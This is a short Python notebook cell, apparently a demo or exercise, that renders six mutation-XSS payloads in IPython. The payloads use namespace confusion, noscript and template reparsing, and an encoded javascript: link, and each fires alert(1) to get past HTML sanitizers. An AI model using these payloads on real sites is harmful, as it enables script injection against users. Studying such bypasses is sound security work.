"""Markup that becomes something else when it is parsed for the second time."""

# %% answer:number
from IPython.display import HTML, display

for markup in (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><s><template><s><img src=x onerror=alert(1)></s></template>",
    "<a href='&#106;avascript:alert(1)'>x</a><iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
):
    display(HTML(markup))
